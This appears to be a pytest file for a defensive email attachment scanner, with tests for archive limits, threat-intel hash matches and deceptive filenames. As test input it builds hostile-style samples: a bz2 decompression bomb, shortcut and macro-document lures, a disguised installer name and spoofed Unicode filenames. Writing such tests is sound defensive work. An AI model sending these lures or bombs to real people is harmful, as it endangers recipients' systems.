    assert zipfile.ZipFile(io.BytesIO(zip64)).namelist() == ["docs/readme.lnk", "docs/scan.bin"]
    found = _by_rule(analyze_attachments(_message(("big.zip", zip64)), ctx))
    assert found["mail.attach-lnk"].evidence["attachment"] == "big.zip > docs/readme.lnk"


def test_total_byte_budget_is_shared_by_the_message(limits: Limits) -> None:
    small = Limits(**{**_fields(limits), "max_total_bytes": 3 * 2**20})
    walker = ArchiveWalker(small)
    incompressible = os.urandom(2 * 2**20)
    first = list(walker.walk("a.zip", build_zip([("a.bin", incompressible)], zipfile.ZIP_STORED)))
    second = list(walker.walk("b.zip", build_zip([("b.bin", incompressible)], zipfile.ZIP_STORED)))
    assert not any(isinstance(item, Event) for item in first)
    reasons = [item.details["reason"] for item in second if isinstance(item, Event)]
    assert len(reasons) == 1 and "bytes extracted from this message" in str(reasons[0])


def test_oversized_member_is_read_only_up_to_the_cap(limits: Limits) -> None:
    small = Limits(**{**_fields(limits), "max_member_bytes": 2**20})
    data = build_zip([("big.bin", os.urandom(3 * 2**20))], zipfile.ZIP_STORED)
    member = next(item for item in _walk(small, "a.zip", data) if isinstance(item, Entry) and item.depth == 1)
    assert len(member.data) == 2**20 and not member.complete


def test_fifty_megabyte_attachments_are_hashed_and_unpacked(ctx: ScanContext) -> None:
    blob = os.urandom(50 * 2**20)
    digest = hashlib.sha256(blob).hexdigest()
    intel = IntelIndex([Indicator(IndicatorType.SHA256, digest, "test-feed", actor="APT38", label="TRADERTRAITOR loader")])
    scan = ScanContext(ctx.profile, ctx.rules, ctx.domains, intel, date(2026, 1, 1))
    message = _message(("video.mp4", blob, "video/mp4"), ("archive.zip", build_zip([("inner/video.mp4", blob)], zipfile.ZIP_STORED)))
    found = _by_rule(analyze_attachments(message, scan))
    assert set(found) == {"mail.attach-intel-hash"}
    evidence = found["mail.attach-intel-hash"].evidence
    assert evidence["sha256"] == digest and evidence["sources"] == "test-feed"
    assert evidence["actors"] == "Lazarus Group"  # APT38 resolved through the actor table
    assert evidence["count"] == 2 and evidence["also"] == "archive.zip > inner/video.mp4"


def test_intel_only_counts_active_hostile_facts(ctx: ScanContext) -> None:
    blob = b"tool bytes"
    md5 = hashlib.md5(blob).hexdigest()
    indicators = [
        Indicator(IndicatorType.MD5, md5, "labels", role=Role.LABEL),
        Indicator(IndicatorType.MD5, md5, "old-feed", valid_until=date(2025, 1, 1)),
    ]
    scan = ScanContext(ctx.profile, ctx.rules, ctx.domains, IntelIndex(indicators), date(2026, 1, 1))
    assert analyze_attachments(_message(("tool.dat", blob)), scan) == []
    indicators.append(Indicator(IndicatorType.MD5, md5, "eset-malware-ioc", actor="Lazarus Group"))
    scan.intel = IntelIndex(indicators)
    evidence = _by_rule(analyze_attachments(_message(("tool.dat", blob)), scan))["mail.attach-intel-hash"].evidence
    assert evidence["matched"] == f"md5 {md5}" and evidence["sources"] == "eset-malware-ioc"


# -- damaged input --------------------------------------------------------------------------------


@pytest.mark.parametrize(
    ("name", "data"),
    [
        ("cut.zip", build_zip([("a.pdf", PDF * 50)])[:200]),
        ("garbage.7z", b"7z\xbc\xaf\x27\x1c\x00\x04" + bytes(56)),
        ("cut.gz", gzip.compress(PDF * 50)[:40]),
        ("bad.iso", bytes(32769) + b"CD001" + os.urandom(4000)),
        ("bad.tar", bytes(257) + b"ustar" + b"\xff" * 300),
        ("bad.bz2", b"BZh9" + os.urandom(100)),
    ],
)
def test_damaged_archives_are_unreadable_findings_not_crashes(ctx: ScanContext, name: str, data: bytes) -> None:
    found = _by_rule(analyze_attachments(_message((name, data)), ctx))
    assert found["mail.attach-unreadable"].score < 30
    assert found["mail.attach-unreadable"].evidence["attachment"].startswith(name)  # type: ignore[union-attr]


def test_mutated_archives_never_crash(ctx: ScanContext) -> None:
    seeds: list[tuple[str, bytes]] = [
        ("a.zip", build_zip([("x/readme.lnk", _shortcut()), ("y.pdf", PDF)])),
        ("a.7z", _sevenzip({"x.txt": b"hello" * 40, "y.lnk": _shortcut()})),
        ("a.iso", build_iso({"a.lnk": _shortcut()})),
        ("a.docm", build_docx(vba=build_vba_ole(MACRO))),
        ("a.lnk", _shortcut()),
        ("a.tar.gz", gzip.compress(_tar({"a.txt": b"x" * 300}))),
    ]
    rng = random.Random(4)
    for name, data in seeds:
        for _ in range(25):
            mutated = bytearray(data)
            for _ in range(rng.randint(1, 12)):
                position = rng.randrange(len(mutated))
                mutated[position] = rng.randrange(256)
            if rng.random() < 0.3:
                mutated = mutated[: rng.randrange(1, len(mutated))]
            findings = analyze_attachments(_message((name, bytes(mutated))), ctx)
            assert all(f.evidence["attachment"] for f in findings)


def test_chat_attachment_without_bytes_is_judged_by_name(ctx: ScanContext) -> None:
    message = Message("slack:export/general.json#3", kind="chat", attachments=(Attachment("TradePro_Setup.dmg", "", b"", 48_000_000),))
    findings = analyze_attachments(message, ctx)
    assert [(f.rule, f.evidence["by"]) for f in findings] == [("mail.attach-macos-installer", "name")]


def test_disabled_rule_is_silent_but_bounds_still_hold(ctx: ScanContext, limits: Limits) -> None:
    rules = ctx.rules.with_overrides(("mail.attach-archive-bomb",))
    scan = ScanContext(ctx.profile, rules, ctx.domains, None, date(2026, 1, 1))
    assert Settings.from_rules(rules).limits == limits
    bomb = bz2.compress(bytes(64 * 2**20))
    tracemalloc.start()
    try:
        findings = analyze_attachments(_message(("logs.bz2", bomb), ("notes.lnk", _shortcut())), scan)
        _, peak = tracemalloc.get_traced_memory()
    finally:
        tracemalloc.stop()
    assert {f.rule for f in findings} == {"mail.attach-lnk"}
    assert peak < 32 * 2**20, f"peak {peak} bytes"


def test_japanese_windows_zip_names_are_decoded(ctx: ScanContext) -> None:
    # Explorer on Japanese Windows writes CP932 names without the UTF-8 flag.
    placeholder = build_zip([("XXXXXX.lnk", _shortcut())])
    archive = placeholder.replace(b"XXXXXX", "請求書".encode("cp932"))
    found = _by_rule(analyze_attachments(_message(("請求書.zip", archive)), ctx))
    assert found["mail.attach-lnk"].evidence["attachment"] == "請求書.zip > 請求書.lnk"


def test_printable_escapes_controls_and_shortens() -> None:
    assert printable("a\u202eb\nc\u3164") == "a<U+202E>b<U+000A>c<U+3164>"
    assert printable("lnvoice\u034f.pdf") == "lnvoice<U+034F>.pdf"
    assert len(printable("x" * 1000)) <= 160


def _fields(limits: Limits) -> dict[str, Any]:
    return {name: getattr(limits, name) for name in limits.__dataclass_fields__}


def _tar(files: dict[str, bytes]) -> bytes:
    out = io.BytesIO()
    with tarfile.open(fileobj=out, mode="w") as archive:
        for name, data in files.items():
            info = tarfile.TarInfo(name)
            info.size = len(data)
            archive.addfile(info, io.BytesIO(data))
    return out.getvalue()
